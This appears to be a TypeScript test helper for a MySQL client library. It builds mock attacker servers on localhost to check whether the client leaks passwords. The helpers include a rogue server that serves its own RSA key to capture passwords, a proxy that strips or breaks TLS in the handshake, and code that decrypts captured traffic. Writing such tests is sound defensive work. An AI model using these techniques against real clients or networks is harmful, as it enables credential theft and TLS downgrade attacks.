import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
import { connect, createServer, type Server, type Socket } from 'node:net';

/** Capability bit of a greeting that offers TLS (MySQL's include/mysql/mysql_com.h, CLIENT_SSL). */
const clientSsl = 0x0800;
const capabilities = 0x0001 | 0x0004 | 0x0200 | 0x2000 | 0x8000 | 0x0008_0000 | 0x0020_0000;
/** What the client's password is mixed with before it is encrypted by RSA. */
export const scramble = Buffer.from('abcdefghijklmnopqrst', 'latin1');
const attackersKeys = generateKeyPairSync('rsa', {
  modulusLength: 2048,
  publicKeyEncoding: { type: 'spki', format: 'pem' },
  privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
});

/** Somebody on the network: what came from the client, over all its connections. */
export interface Attacker {
  port: number;
  connections(): number;
  received(): Buffer;
  /** Fails when the password, or what the attacker's RSA key opens to it, was sent; `password` in any case. */
  learned(password: string): string | null;
  close(): Promise<void>;
}

export function packet(sequence: number, ...payload: (Uint8Array | string | number[])[]): Buffer {
  const body = Buffer.concat(
    payload.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))),
  );
  return Buffer.concat([
    Buffer.from([body.length & 255, (body.length >> 8) & 255, body.length >> 16, sequence]),
    body,
  ]);
}

export function greeting(plugin: string, offersTls: boolean): Buffer {
  const flags = capabilities | (offersTls ? clientSsl : 0);
  const low = [flags & 255, (flags >> 8) & 255];
  const high = [(flags >> 16) & 255, (flags >> 24) & 255];
  return packet(
    0,
    [10],
    '9.7.0\0',
    [7, 0, 0, 0],
    scramble.subarray(0, 8),
    [0, ...low, 45, 2, 0, ...high, 21, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0],
    scramble.subarray(8),
    `\0${plugin}\0`,
  );
}

export const authSwitch = (sequence: number, plugin: string) =>
  packet(sequence, [0xfe], `${plugin}\0`, scramble, [0]);
export const moreData = (sequence: number, data: Uint8Array | string | number[]) =>
  packet(sequence, [1], data);
export const attackersKey = attackersKeys.publicKey;

/**
 * Answers a client as a server would that is after its password: asks for `plugin`, then for the full password, and
 * hands out its own key to whoever asks for one.
 */
export function passwordThief(
  plugin: string,
  { offersTls = false, initial = plugin } = {},
): Promise<Attacker> {
  return attacker((client, received) => {
    client.write(greeting(initial, offersTls));
    received((data, sequence, count) => {
      if (count === 0) client.write(authSwitch(sequence + 1, plugin));
      else if (data.length === 1) client.write(moreData(sequence + 1, attackersKey));
      else if (count === 1) client.write(moreData(sequence + 1, [4]));
      else client.write(packet(sequence + 1, [0, 0, 0, 2, 0, 0, 0]));
    });
  });
}

/** What is done to a connection when it is made. */
export interface Tampering {
  /** Takes the offer of TLS out of the greeting. */
  stripTls?: boolean;
  /** Answers the request for TLS with something else. */
  breakTls?: boolean;
}

/** Passes bytes between client and server, changing what the server's greeting says and the client's TLS. */
export function between(serverPort: number, tampering: Tampering, host = '127.0.0.1'): Promise<Attacker> {
  return attacker((client, _received, keep) => {
    const { stripTls = false, breakTls = false } = tampering;
    const server = connect(serverPort, '127.0.0.1');
    server.on('error', () => client.destroy());
    client.on('close', () => server.destroy());
    server.once('data', (data: Buffer) => {
      client.write(stripTls ? withoutTls(data) : data);
      server.on('data', (more: Buffer) => client.write(more));
    });
    let first = true;
    keep((data) => {
      // A request for TLS is 32 bytes of which the second two hold the bit.
      const asks = first && data.length >= 36 && (data.readUInt16LE(4) & clientSsl) !== 0;
      first = false;
      if (breakTls && asks) client.end('\x15\x03\x01 no TLS with me');
      else server.write(data);
    });
  }, host);
}

function withoutTls(data: Buffer): Buffer {
  const changed = Buffer.from(data);
  // Behind protocol, version, connection id, first part of the scramble and a NUL.
  const at = changed.indexOf(0, 5) + 1 + 4 + 8 + 1;
  changed.writeUInt16LE(changed.readUInt16LE(at) & ~clientSsl, at);
  return changed;
}

type OnPacket = (payload: Buffer, sequence: number, count: number) => void;

/** A listener that keeps all that clients send. */
export async function attacker(
  behave: (
    client: Socket,
    received: (each: OnPacket) => void,
    keep: (each: (data: Buffer) => void) => void,
  ) => void,
  host = '127.0.0.1',
): Promise<Attacker> {
  const chunks: Buffer[] = [];
  const clients = new Set<Socket>();
  let connections = 0;
  const server = createServer((client) => {
    connections += 1;
    clients.add(client);
    client.on('error', () => undefined);
    client.on('data', (data: Buffer) => chunks.push(data));
    behave(
      client,
      (each) => client.on('data', packets(each)),
      (each) => client.on('data', each),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  const received = () => Buffer.concat(chunks);
  return {
    port: portOf(server),
    connections: () => connections,
    received,
    learned: (password) => whatIsLearned(received(), password),
    close: () =>
      new Promise((resolve) => {
        for (const client of clients) client.destroy();
        server.close(() => resolve());
      }),
  };
}

function packets(each: OnPacket): (data: Buffer) => void {
  let rest: Buffer = Buffer.alloc(0);
  let count = 0;
  return (data) => {
    rest = Buffer.concat([rest, data]);
    while (rest.length >= 4 && rest.length >= 4 + rest.readUIntLE(0, 3)) {
      const end = 4 + rest.readUIntLE(0, 3);
      each(rest.subarray(4, end), rest[3] ?? 0, count);
      count += 1;
      rest = rest.subarray(end);
    }
  };
}

/**
 * The password in clear at any place of what came, or behind the attacker's key in a packet as long as that key: to try
 * the key at each byte would take a minute of processor time for what a session over TLS sends.
 */
function whatIsLearned(received: Buffer, password: string): string | null {
  if (received.includes(password)) return 'the password in clear';
  const secret = Buffer.from(`${password}\0`);
  for (let at = 4; at + 256 <= received.length; at += 1) {
    if (received.readUIntLE(at - 4, 3) !== 256) continue;
    const opened = decrypted(received.subarray(at, at + 256));
    if (opened === null) continue;
    const clear = opened.map((byte, index) => byte ^ (scramble[index % scramble.length] ?? 0));
    if (Buffer.from(clear).equals(secret)) return "the password, by the attacker's RSA key";
  }
  return null;
}

function decrypted(bytes: Uint8Array): Uint8Array | null {
  try {
    return privateDecrypt(
      { key: attackersKeys.privateKey, oaepHash: 'sha1', padding: constants.RSA_PKCS1_OAEP_PADDING },
      bytes,
    );
  } catch {
    return null;
  }
}

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === 'object' ? (address?.port ?? 0) : 0;
}
